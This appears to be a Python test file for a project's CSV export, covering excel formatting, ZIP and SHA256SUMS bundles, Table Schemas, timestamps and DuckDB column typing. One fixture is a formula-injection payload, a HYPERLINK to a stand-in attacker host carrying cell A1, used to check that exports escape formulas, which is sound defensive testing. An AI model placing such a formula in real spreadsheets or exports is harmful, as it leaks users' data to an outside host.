"""The export as a BI team reads it: the excel profile, the ZIP bundle and SHA256SUMS, the Table
Schemas in the run folder, one timestamp style, formulas escaped, and DuckDB typing the columns
from the Table Schema so that an all-empty column keeps its type (issue 20)."""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import duckdb
import pytest
from sqlalchemy import select

from doorbraak.export import woordenboek
from doorbraak.export.tabellen import TABELLEN
from doorbraak.models import Leerpunt, Regel
from tests.test_export import ROOT, Maker, _demo, complete_mappen, exporteren

TIJDSTIP = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$")
FORMULE = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'


def _rijen(pad: Path, **dialect: Any) -> list[dict[str, str]]:
    codering = "utf-8-sig" if dialect.get("delimiter") == ";" else "utf-8"
    with open(pad, encoding=codering, newline="") as f:
        return list(csv.DictReader(f, **dialect))


def _sha256sum_c(map_: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["sha256sum", "-c", "--strict", "SHA256SUMS"], cwd=map_, capture_output=True, text=True
    )


def _bestanden(map_: Path, behalve: tuple[str, ...] = ()) -> set[str]:
    return {
        p.relative_to(map_).as_posix()
        for p in map_.rglob("*")
        if p.is_file() and p.name not in behalve
    }


async def _demo_met_lastige_tekst(db: Maker) -> None:
    await _demo(db)
    async with db() as session:
        leerpunt = (await session.scalars(select(Leerpunt).order_by(Leerpunt.id))).first()
        assert leerpunt is not None
        leerpunt.soort, leerpunt.delen = "succes", True
        leerpunt.tekst = FORMULE
        regel = (await session.scalars(select(Regel).order_by(Regel.id))).first()
        assert regel is not None
        regel.toelichting = "Eerste regel, één € \nTweede regel\r\nDerde \\ regel"
        await session.commit()


async def test_excel_profile_bom_semicolon_one_line_per_record(db: Maker, tmp_path: Path) -> None:
    await _demo_met_lastige_tekst(db)
    run = await exporteren(db, tmp_path, profiel="excel")
    map_ = Path(run.map or "")
    manifest = json.loads((map_ / "manifest.json").read_text())
    assert manifest["csv"]["profiel"] == "excel" and manifest["csv"]["scheidingsteken"] == ";"
    for tabel in TABELLEN:
        data = (map_ / f"{tabel.naam}.csv").read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), tabel.naam
        # Every record is one line: CRLF only at record ends, no bare LF or CR anywhere.
        regels = data.split(b"\r\n")
        assert regels[-1] == b"" and b"\n" not in data.replace(b"\r\n", b""), tabel.naam
        assert b"\r" not in data.replace(b"\r\n", b""), tabel.naam
        assert len(regels) - 2 == run.rijen_per_tabel[tabel.naam], tabel.naam
    rijen = _rijen(map_ / "regels.csv", delimiter=";")
    toelichting = next(r["toelichting"] for r in rijen if "Tweede" in r["toelichting"])
    assert toelichting == "Eerste regel, één € \\nTweede regel\\nDerde \\\\ regel"
    verhalen = [
        r["verhaal"] for r in _rijen(map_ / "leerpunten.csv", delimiter=";") if r["verhaal"]
    ]
    assert "'" + FORMULE in verhalen


async def test_default_profile_keeps_line_breaks_and_escapes_formulas(
    db: Maker, tmp_path: Path
) -> None:
    await _demo_met_lastige_tekst(db)
    run = await exporteren(db, tmp_path)
    map_ = Path(run.map or "")
    data = (map_ / "regels.csv").read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf") and data.startswith(b"regel_id,")
    toelichtingen = [r["toelichting"] for r in _rijen(map_ / "regels.csv")]
    assert "Eerste regel, één € \nTweede regel\r\nDerde \\ regel" in toelichtingen
    leerpunten = _rijen(map_ / "leerpunten.csv")
    assert "'" + FORMULE in [r["verhaal"] for r in leerpunten]
    assert not any(r["verhaal"].startswith("=") for r in leerpunten)


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="needs coreutils sha256sum")
async def test_zip_bundle_and_sha256sums_verify_with_standard_tools(
    db: Maker, tmp_path: Path
) -> None:
    await _demo(db)
    run = await exporteren(db, tmp_path / "export", zip=True)
    map_ = Path(run.map or "")
    manifest = json.loads((map_ / "manifest.json").read_text())
    assert manifest["bundel"] == f"{map_.name}.zip" and manifest["controlesommen"] == "SHA256SUMS"
    controle = _sha256sum_c(map_)
    assert controle.returncode == 0, controle.stdout + controle.stderr
    genoemd = {r.split("  ", 1)[1] for r in (map_ / "SHA256SUMS").read_text().splitlines()}
    op_schijf = _bestanden(map_, behalve=("SHA256SUMS", manifest["bundel"]))
    assert genoemd == op_schijf and "manifest.json" in genoemd
    assert "schema/casussen.schema.json" in genoemd
    with zipfile.ZipFile(map_ / manifest["bundel"]) as z:
        assert z.testzip() is None
        assert set(z.namelist()) == {f"{map_.name}/{n}" for n in [*genoemd, "SHA256SUMS"]}
        z.extractall(tmp_path / "uitgepakt")
    uitgepakt = tmp_path / "uitgepakt" / map_.name
    controle = _sha256sum_c(uitgepakt)
    assert controle.returncode == 0, controle.stdout


async def test_run_folder_carries_its_table_schemas_and_one_timestamp_style(
    db: Maker, tmp_path: Path
) -> None:
    await _demo(db)
    await exporteren(db, tmp_path)
    [map_] = complete_mappen(tmp_path)
    manifest = json.loads((map_ / "manifest.json").read_text())
    for bestand in manifest["bestanden"]:
        schema_pad = map_ / bestand["schema"]
        assert schema_pad.resolve().is_relative_to(map_.resolve()), bestand
        # The same Table Schema as the data dictionary's committed copy.
        tabel = bestand["tabel"]
        assert schema_pad.read_text() == (
            ROOT / woordenboek.SCHEMA_MAP / f"{tabel}.schema.json"
        ).read_text(encoding="utf-8")
        schema = json.loads(schema_pad.read_text())
        kop = (map_ / f"{tabel}.csv").read_bytes().split(b"\r\n", 1)[0].decode()
        assert [v["name"] for v in schema["fields"]] == kop.split(",")
    # One style for every instant: manifest and CSV alike.
    assert TIJDSTIP.match(manifest["gestart_op"]) and TIJDSTIP.match(manifest["geschreven_op"])
    casussen = _rijen(map_ / "casussen.csv")
    assert casussen and all(TIJDSTIP.match(r["aangemeld_op"]) for r in casussen)


# --- DuckDB, typed from the Table Schema ---------------------------------------------------

_DUCKDB = {
    "string": "VARCHAR",
    "integer": "BIGINT",
    "boolean": "BOOLEAN",
    "date": "DATE",
    "datetime": "TIMESTAMPTZ",
}


def _duckdb_kolommen(schema: dict[str, Any]) -> dict[str, str]:
    return {v["name"]: _DUCKDB[v["type"]] for v in schema["fields"]}


def _lees(con: duckdb.DuckDBPyConnection, map_: Path, tabel: str) -> duckdb.DuckDBPyRelation:
    schema = json.loads((map_ / "schema" / f"{tabel}.schema.json").read_text())
    kolommen = _duckdb_kolommen(schema)
    return con.read_csv(
        str(map_ / f"{tabel}.csv"),
        header=True,
        auto_detect=False,
        columns=kolommen,
        delimiter=",",
        quotechar='"',
        timestamp_format="%Y-%m-%dT%H:%M:%S.%fZ",
    )


async def test_duckdb_reads_every_file_with_the_schema_types_even_all_empty(
    db: Maker, tmp_path: Path
) -> None:
    await _demo(db)
    vol = await exporteren(db, tmp_path / "vol")
    leeg = await exporteren(db, tmp_path / "leeg", "incrementeel")  # nothing changed since
    assert leeg.modus == "incrementeel" and leeg.rijen_per_tabel["casussen"] == 0
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    for run in (vol, leeg):
        map_ = Path(run.map or "")
        for tabel in TABELLEN:
            schema = json.loads((map_ / "schema" / f"{tabel.naam}.schema.json").read_text())
            rel = _lees(con, map_, tabel.naam)
            typen = dict(zip(rel.columns, [str(t) for t in rel.types], strict=True))
            verwacht = {
                k: {"TIMESTAMPTZ": "TIMESTAMP WITH TIME ZONE"}.get(v, v)
                for k, v in _duckdb_kolommen(schema).items()
            }
            assert typen == verwacht, (run.modus, tabel.naam)
            assert len(rel.fetchall()) == run.rijen_per_tabel[tabel.naam]
    # What the schema prevents: guessing types makes an all-empty column text.
    map_ = Path(vol.map or "")
    geraden = con.read_csv(str(map_ / "casussen.csv"))
    afgesloten = dict(zip(geraden.columns, [str(t) for t in geraden.types], strict=True))
    typed = _lees(con, map_, "casussen")
    leeg_geraden = con.read_csv(str(Path(leeg.map or "") / "casussen.csv"))
    assert str(leeg_geraden.types[leeg_geraden.columns.index("aangemeld_op")]) == "VARCHAR"
    assert afgesloten["aangemeld_op"].startswith("TIMESTAMP")
    assert str(typed.types[typed.columns.index("aangemeld_op")]) == "TIMESTAMP WITH TIME ZONE"


async def test_duckdb_europe_amsterdam_day_totals_as_the_docs_say(
    db: Maker, tmp_path: Path
) -> None:
    await _demo(db)
    run = await exporteren(db, tmp_path)
    pad = Path(run.map or "") / "casussen.csv"
    con = duckdb.connect()
    # The query of docs/export.md, word for word (but for the path).
    dagen = con.sql(
        "SELECT CAST(timezone('Europe/Amsterdam', aangemeld_op) AS DATE) AS dag, count(*) "
        f"FROM read_csv('{pad}', types = {{'aangemeld_op': 'TIMESTAMPTZ'}}) "
        "GROUP BY dag ORDER BY dag"
    ).fetchall()
    assert sum(n for _, n in dagen) == run.rijen_per_tabel["casussen"]
    amsterdam = ZoneInfo("Europe/Amsterdam")
    verwacht: dict[dt.date, int] = {}
    for r in _rijen(pad):
        moment = dt.datetime.fromisoformat(r["aangemeld_op"].replace("Z", "+00:00"))
        dag = moment.astimezone(amsterdam).date()
        verwacht[dag] = verwacht.get(dag, 0) + 1
    assert dict(dagen) == verwacht
    assert "SELECT CAST(timezone('Europe/Amsterdam', aangemeld_op) AS DATE) AS dag" in (
        ROOT / "docs" / "export.md"
    ).read_text(encoding="utf-8")
